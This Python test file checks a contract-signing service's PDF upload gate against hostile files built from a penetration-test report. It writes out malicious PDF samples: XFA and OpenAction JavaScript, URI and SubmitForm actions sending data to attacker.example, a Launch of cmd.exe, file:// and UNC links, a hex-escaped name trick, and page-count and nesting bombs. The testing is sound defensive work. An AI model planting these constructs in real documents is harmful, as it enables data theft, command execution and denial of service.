"""The PDF gate (penetration test): active content refused, limits kept, the event loop never stalled.

The report: an XFA form carrying JavaScript, /OpenAction with /URI or
/SubmitForm, an HTML page with <script> before %PDF-, 60,000 pages and
dictionaries nested 20,000 deep were accepted; a 60,000-page file was checked in
the request for 8.6 s while /health/live of every member waited; previews were
rendered in the request too.

Every hostile file is built here (pikepdf, or the bytes an attacker would write
where pikepdf would repair them) and sent through the real API; each is refused
with a Japanese message and leaves nothing behind (contracts, documents, audit
rows, blobs). A real uvicorn server answers /health/live promptly while a slow
check runs. Every file of the producer corpus still passes, except the signed one.
"""

from __future__ import annotations

import asyncio
import dataclasses
import io
import socket
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from typing import Any

import httpx
import pikepdf
import psutil
import pytest
import uvicorn
from litestar import Litestar
from litestar.testing import AsyncTestClient
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncConnection, AsyncSession, async_sessionmaker, create_async_engine

from core.settings import Settings, to_psycopg_url
from kyodo.app import create_app
from signing import pdfgate
from signing.blobs import BlobStore
from signing.models import AuditEvent, Contract, ContractDocument
from signing.pdfcheck import PdfLimits, PdfRejectedError, Refusal, check_pdf, render_page
from signing.pdfgate import check_pdf_off_loop
from tests import factories as f
from tests.conftest import _session_maker, sign_in
from tests.corpus.conftest import corpus
from tests.corpus.producers import CATALOGUE, SIGNED, Corpus
from tests.helpers import stored_blobs
from tests.scope import system_access
from tests.signing.conftest import Office
from tests.signing.pdfgen import make_pdf

__all__ = ["corpus"]

MAX_PAGES = 1000
"""The page limit of these tests (the default is 2,000)."""
ATTACKER = b"https://attacker.example/collect"

XFA = "XFAフォーム"
ACTIVE = "スクリプト、埋め込みファイル"
ACTIONS = "自動で実行される動作"
HEADER = "「%PDF-」の前"
TOO_MANY_PAGES = f"{MAX_PAGES}ページを超えて"
TOO_DEEP = "入れ子"
TOO_COMPLEX = "複雑すぎる"
DAMAGED = "読み取れません"


@pytest.fixture
def settings(settings: Settings) -> Settings:
    """The session's settings with a lower page limit."""
    return dataclasses.replace(settings, contracts=dataclasses.replace(settings.contracts, max_pages=MAX_PAGES))


# --------------------------------------------------------------------------- files


def raw_pdf(objects: list[bytes]) -> bytes:
    """A PDF of ``objects`` (1 is the catalog) with a correct cross-reference table, written byte by byte."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def stream(data: bytes) -> bytes:
    return b"<< /Length %d >>\nstream\n%s\nendstream" % (len(data), data)


def one_page(catalog: bytes = b"", page: bytes = b"", more: tuple[bytes, ...] = ()) -> bytes:
    """One A4 page with text; ``more`` are objects 6, 7, …"""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> %s>>" % page,
            stream(b"BT /F1 12 Tf 72 760 Td (Keiyakusho) Tj ET"),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *more,
        ]
    )


def with_link(action: bytes) -> bytes:
    """One page with a link annotation whose action is ``action``."""
    return one_page(
        page=b"/Annots [6 0 R] ",
        more=(b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] /A %s >>" % action,),
    )


def pages(count: int) -> bytes:
    """``count`` empty pages in one flat page tree, as small as such a file gets."""
    kids = b" ".join(b"%d 0 R" % (n + 4) for n in range(count))
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
            stream(b""),
            *[b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>"] * count,
        ]
    )


def nested(levels: int) -> bytes:
    """Dictionaries inside dictionaries, ``levels`` deep, in one object."""
    return one_page(catalog=b"/Deep 6 0 R ", more=(b"<< /A " * levels + b"0" + b" >>" * levels,))


def chained(levels: int) -> bytes:
    """Dictionaries each referring to the next one, ``levels`` objects deep."""
    chain = [b"<< /A %d 0 R >>" % (n + 1) for n in range(6, 6 + levels)] + [b"<< >>"]
    return one_page(catalog=b"/Deep 6 0 R ", more=tuple(chain))


def with_pikepdf(change: Callable[[pikepdf.Pdf], None]) -> bytes:
    """A one-page file written by pikepdf (qpdf) after ``change``."""
    pdf = pikepdf.open(io.BytesIO(make_pdf(1)))
    change(pdf)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _xfa(pdf: pikepdf.Pdf) -> None:
    template = pdf.make_stream(
        b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1">'
        b'<field name="x"><event activity="initialize"><script contentType="application/x-javascript">'
        b"app.launchURL('https://attacker.example/', true);</script></event></field></subform></template>"
    )
    pdf.Root.AcroForm = pdf.make_indirect(
        pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.Array([pikepdf.String("template"), template]))
    )
    pdf.Root.NeedsRendering = True


def _open_action(action: pikepdf.Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(action)

    return change


def _page_aa(pdf: pikepdf.Pdf) -> None:
    # Opening the page visits the address, no script needed.
    pdf.pages[0].obj.AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(ATTACKER.decode()))
    )


def _submit_widget(pdf: pikepdf.Pdf) -> None:
    widget = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Widget,
            FT=pikepdf.Name.Btn,
            Ff=65536,
            T=pikepdf.String("送信"),
            Rect=[72, 600, 200, 630],
            P=pdf.pages[0].obj,
            A=pikepdf.Dictionary(
                S=pikepdf.Name.SubmitForm,
                F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F=pikepdf.String(ATTACKER.decode())),
                Flags=4,
            ),
        )
    )
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([widget]))
    pdf.Root.AcroForm = pdf.make_indirect(pikepdf.Dictionary(Fields=pikepdf.Array([widget])))


def _link(action: pikepdf.Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[72, 700, 300, 720], Border=[0, 0, 0], A=action
        )
        pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link)]))

    return change


def _attachment(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["請求書.xml"] = pikepdf.AttachedFileSpec(pdf, b"<invoice/>", mime_type="application/xml")


def _javascript(source: str) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(source))


HOSTILE: list[tuple[str, Callable[[], bytes], str]] = [
    ("xfa-with-javascript", lambda: with_pikepdf(_xfa), XFA),
    ("openaction-javascript", lambda: with_pikepdf(_open_action(_javascript("app.alert(1)"))), ACTIVE),
    (
        "openaction-uri",
        lambda: with_pikepdf(_open_action(pikepdf.Dictionary(S=pikepdf.Name.URI, URI=ATTACKER.decode()))),
        ACTIONS,
    ),
    (
        "openaction-submitform",
        lambda: with_pikepdf(
            _open_action(pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.Dictionary(F=ATTACKER.decode())))
        ),
        ACTIONS,
    ),
    (
        "openaction-named-print",
        lambda: with_pikepdf(_open_action(pikepdf.Dictionary(S=pikepdf.Name.Named, N=pikepdf.Name.Print))),
        ACTIONS,
    ),
    ("page-additional-action", lambda: with_pikepdf(_page_aa), ACTIONS),
    ("widget-submitform", lambda: with_pikepdf(_submit_widget), ACTIONS),
    (
        "link-launch",
        lambda: with_pikepdf(
            _link(pikepdf.Dictionary(S=pikepdf.Name.Launch, Win=pikepdf.Dictionary(F="cmd.exe", P="/c calc")))
        ),
        ACTIONS,
    ),
    (
        "link-gotor",
        lambda: with_pikepdf(_link(pikepdf.Dictionary(S=pikepdf.Name.GoToR, F="\\\\server\\share\\x.pdf", D=[0]))),
        ACTIONS,
    ),
    (
        "link-importdata",
        lambda: with_pikepdf(_link(pikepdf.Dictionary(S=pikepdf.Name.ImportData, F="data.fdf"))),
        ACTIONS,
    ),
    (
        "link-to-a-file",
        lambda: with_pikepdf(_link(pikepdf.Dictionary(S=pikepdf.Name.URI, URI="file:///C:/Windows/System32/calc.exe"))),
        ACTIONS,
    ),
    ("link-javascript-uri", lambda: with_link(b"<< /S /URI /URI (javascript:app.alert\\(1\\)) >>"), ACTIONS),
    ("link-relative-path", lambda: with_link(b"<< /S /URI /URI (..\\\\tools\\\\run.exe) >>"), ACTIONS),
    (
        "link-then-javascript",
        lambda: with_link(b"<< /S /URI /URI (https://www.city.example.jp/) /Next << /S /JavaScript /JS (x) >> >>"),
        ACTIVE,
    ),
    ("embedded-file", lambda: with_pikepdf(_attachment), ACTIVE),
    (
        "javascript-name-tree-hex-escaped",
        # /J#61vaScript is /JavaScript: names are compared after their escapes are undone.
        lambda: one_page(catalog=b"/Names << /J#61vaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >> "),
        ACTIVE,
    ),
    (
        "javascript-in-an-unreferenced-object",
        lambda: one_page(more=(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",)),
        ACTIVE,
    ),
    (
        "key-given-twice",
        # A lenient parser keeps the first /S (a harmless /GoTo), a viewer may keep the second.
        lambda: one_page(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /S /JavaScript /JS (x) >> "),
        DAMAGED,
    ),
    ("html-script-before-header", lambda: b"<html><script>alert(1)</script></html>\n" + make_pdf(1), HEADER),
    ("sixty-thousand-pages", lambda: pages(60_000), TOO_MANY_PAGES),
    ("nested-150-deep", lambda: nested(150), TOO_DEEP),
    ("nested-20000-deep", lambda: nested(20_000), TOO_DEEP),
    ("chain-20000-deep", lambda: chained(20_000), TOO_DEEP),
]


# --------------------------------------------------------------------------- through the API


def _auth(key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}


async def _upload(client: Any, office_key: str, title_id: uuid.UUID, name: str, data: bytes) -> httpx.Response:
    response: httpx.Response = await client.post(
        "/api/v1/contracts/",
        headers=_auth(office_key),
        data={"subject": "庁舎清掃業務委託契約", "title_id": str(title_id)},
        files={"files": (name, data, "application/pdf")},
    )
    return response


async def _stored(session: AsyncSession, settings: Settings) -> tuple[int, int, int, list[Any]]:
    await system_access(session)
    counts = [
        int(await session.scalar(select(func.count()).select_from(model)) or 0)
        for model in (Contract, ContractDocument, AuditEvent)
    ]
    return counts[0], counts[1], counts[2], stored_blobs(settings)


@pytest.mark.parametrize(("name", "build", "message"), HOSTILE, ids=[name for name, *_ in HOSTILE])
async def test_hostile_files_are_refused_with_a_japanese_reason_and_nothing_stored(
    *,
    client: AsyncTestClient[Litestar],
    office: Office,
    settings: Settings,
    db_session: AsyncSession,
    name: str,
    build: Callable[[], bytes],
    message: str,
) -> None:
    data = build()
    before = await _stored(db_session, settings)
    response = await _upload(client, office.key_a, office.title_a.id, f"{name}.pdf", data)
    assert response.status_code == 400, response.text
    detail = response.json()["detail"]
    assert f"「{name}.pdf」" in detail
    assert message in detail, detail
    assert await _stored(db_session, settings) == before
    # The same verdict in the caller's process (the command line, the tests).
    with pytest.raises(PdfRejectedError):
        check_pdf(data, f"{name}.pdf", limits=PdfLimits.of(settings.contracts))


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("web-link", with_link(b"<< /S /URI /URI (https://www.city.morioka.iwate.jp/keiyaku/) >>")),
        ("mail-link", with_link(b"<< /S /URI /URI (mailto:keiyaku@city.morioka.iwate.jp) >>")),
        ("page-link", with_link(b"<< /S /GoTo /D [3 0 R /Fit] >>")),
        ("opens-at-a-page", one_page(catalog=b"/OpenAction [3 0 R /FitH null] ")),
        ("opens-with-goto", one_page(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >> ")),
        ("a-thousand-pages", pages(MAX_PAGES)),
        ("nested-90-deep", nested(90)),
    ],
)
async def test_links_a_reader_clicks_and_files_within_the_limits_are_accepted(
    client: AsyncTestClient[Litestar], office: Office, name: str, data: bytes
) -> None:
    """Web and mail links are common in municipal documents and run only when clicked: they stay."""
    response = await _upload(client, office.key_a, office.title_a.id, f"{name}.pdf", data)
    assert response.status_code == 201, response.text
    assert len(response.json()["documents"]) == 1


def _check_processes() -> list[psutil.Process]:
    """Processes forked for a check or a preview that are still there (the fork server itself excluded)."""
    servers = [
        p for p in psutil.Process().children(recursive=True) if "multiprocessing.forkserver" in " ".join(p.cmdline())
    ]
    return [child for server in servers for child in server.children(recursive=True) if child.is_running()]


async def test_a_check_that_runs_out_of_time_is_killed_and_refused(
    settings: Settings, db_connection: AsyncConnection, db_session: AsyncSession, office: Office
) -> None:
    tiny = dataclasses.replace(
        settings,
        contracts=dataclasses.replace(settings.contracts, max_pages=100_000, check_timeout_seconds=0.5),
    )
    slow = pages(60_000)  # checked in full this takes well over 10 s
    before = await _stored(db_session, settings)
    async with AsyncTestClient(app=create_app(tiny, session_maker=_session_maker(db_connection))) as client:
        started = time.monotonic()
        response = await _upload(client, office.key_a, office.title_a.id, "重い.pdf", slow)
        elapsed = time.monotonic() - started
    assert response.status_code == 400, response.text
    assert "「重い.pdf」" in response.json()["detail"]
    assert TOO_COMPLEX in response.json()["detail"]
    assert elapsed < 8.0, elapsed
    assert await _stored(db_session, settings) == before
    deadline = time.monotonic() + 5
    while _check_processes() and time.monotonic() < deadline:
        await asyncio.sleep(0.1)
    assert _check_processes() == []


async def test_a_check_that_runs_out_of_memory_is_refused() -> None:
    limits = PdfLimits(max_pages=100_000, memory_mb=48, timeout_seconds=120.0)
    started = time.monotonic()
    with pytest.raises(PdfRejectedError) as refused:
        await check_pdf_off_loop(pages(60_000), "大きい.pdf", limits=limits)
    assert refused.value.reason is Refusal.TOO_COMPLEX
    assert refused.value.message.startswith("「大きい.pdf」は"), refused.value.message
    assert time.monotonic() - started < 60  # stopped by the memory limit, long before the time limit


# --------------------------------------------------------------------------- previews


async def test_previews_are_rendered_in_another_process_and_cached(
    client: AsyncTestClient[Litestar],
    office: Office,
    settings: Settings,
    db_session: AsyncSession,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    data = make_pdf(2)
    created = await _upload(client, office.key_a, office.title_a.id, "契約書.pdf", data)
    assert created.status_code == 201, created.text
    contract_id, document = created.json()["id"], created.json()["documents"][0]
    jobs: list[tuple[str, int]] = []
    real_run = pdfgate._run

    def recording(job: str, args: tuple[Any, ...], limits: PdfLimits) -> tuple[Any, ...]:
        jobs.append((job, threading.get_ident()))
        return real_run(job, args, limits)

    monkeypatch.setattr(pdfgate, "_run", recording)
    await sign_in(client, "morioka-drafter")
    url = f"/contracts/{contract_id}/documents/{document['id']}/pages/1"
    first = await client.get(url)
    assert first.status_code == 200, first.text
    assert first.headers["content-type"] == "image/png"
    assert first.content == render_page(data, 1)
    assert [job for job, _thread in jobs] == ["render"]
    assert jobs[0][1] != threading.get_ident()  # waited for in a worker thread, not on the event loop
    # The stored file is gone: only the cache can answer now, without rendering again.
    BlobStore(settings).path(office.members.a.id, document["sha256"]).unlink()
    again = await client.get(url)
    assert again.status_code == 200
    assert again.content == first.content
    assert len(jobs) == 1
    # Another member's staff get nothing, cached or not.
    await f.staff(db_session, office.members.b, "hachimantai-drafter", roles=("drafter",))
    await sign_in(client, "hachimantai-drafter")
    assert (await client.get(url)).status_code == 404


# --------------------------------------------------------------------------- ordinary producers


@pytest.mark.parametrize("name", [name for name, *_ in CATALOGUE])
async def test_every_producer_of_the_corpus_passes_the_gate(corpus: Corpus, settings: Settings, name: str) -> None:
    data = corpus.data(corpus.entry(name))
    limits = PdfLimits.of(settings.contracts)
    if name == SIGNED:
        with pytest.raises(PdfRejectedError) as refused:
            await check_pdf_off_loop(data, f"{name}.pdf", limits=limits)
        assert refused.value.reason is Refusal.SIGNED
        return
    checked = await check_pdf_off_loop(data, f"{name}.pdf", limits=limits)
    assert checked == check_pdf(data, f"{name}.pdf", limits=limits)


async def test_a_scan_of_nineteen_megabytes_passes_the_gate(settings: Settings) -> None:
    data = make_pdf(3, filler_bytes=19 * 1024 * 1024)
    checked = await check_pdf_off_loop(data, "スキャン.pdf", limits=PdfLimits.of(settings.contracts))
    assert len(checked.page_sizes) == 3


# --------------------------------------------------------------------------- a real server


@dataclasses.dataclass
class Platform:
    url: str
    settings: Settings
    key: str
    title_id: uuid.UUID


async def _seed(settings: Settings) -> tuple[str, uuid.UUID]:
    engine = create_async_engine(to_psycopg_url(settings.database.url))
    try:
        async with async_sessionmaker(engine, expire_on_commit=False)() as session:
            group = await f.consortium(session)
            member = await f.member(session, group, "032018", "盛岡市")
            title = await f.title(session, member, "mayor", "市長", "盛岡市長 内舘 茂")
            key = await f.api_key(session, member, roles=("drafter",))
            await session.commit()
            return key, title.id
    finally:
        await engine.dispose()


@pytest.fixture
def platform(fresh_database: Settings) -> Iterator[Platform]:
    """`create_app` served by a real uvicorn server in a thread, as `kyodo serve` runs it, with a 4 s check limit."""
    settings = dataclasses.replace(
        fresh_database,
        contracts=dataclasses.replace(fresh_database.contracts, max_pages=100_000, check_timeout_seconds=4.0),
    )
    key, title_id = asyncio.run(_seed(settings))
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    server = uvicorn.Server(uvicorn.Config(create_app(settings), log_level="warning", lifespan="on"))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]}, daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not server.started:
        assert thread.is_alive(), "uvicorn stopped while starting"
        assert time.monotonic() < deadline, "uvicorn did not start"
        time.sleep(0.05)
    try:
        yield Platform(url=f"http://127.0.0.1:{port}", settings=settings, key=key, title_id=title_id)
    finally:
        server.should_exit = True
        thread.join(30)
        listener.close()


async def test_health_answers_promptly_while_a_slow_check_runs(platform: Platform) -> None:
    slow = pages(60_000)
    async with httpx.AsyncClient(base_url=platform.url, timeout=120.0) as client:
        assert (await client.get("/health/live")).status_code == 200
        started = time.monotonic()
        upload = asyncio.create_task(_upload(client, platform.key, platform.title_id, "重い.pdf", slow))
        answers: list[float] = []
        while not upload.done():
            asked = time.monotonic()
            live = await client.get("/health/live")
            answers.append(time.monotonic() - asked)
            assert live.status_code == 200
            await asyncio.sleep(0.05)
        response = await upload
        took = time.monotonic() - started
    print(f"check {took:.1f} s; /health/live answered {len(answers)} times, slowest {max(answers) * 1000:.0f} ms")
    # A check on the event loop stalls every answer for its whole duration (seconds); a busy
    # 2-core machine may still delay one answer by about a second.
    assert max(answers) < 3.0, sorted(answers)[-5:]
    assert len(answers) >= 20, answers
    assert response.status_code == 400, response.text
    assert TOO_COMPLEX in response.json()["detail"]
    assert took >= 4.0
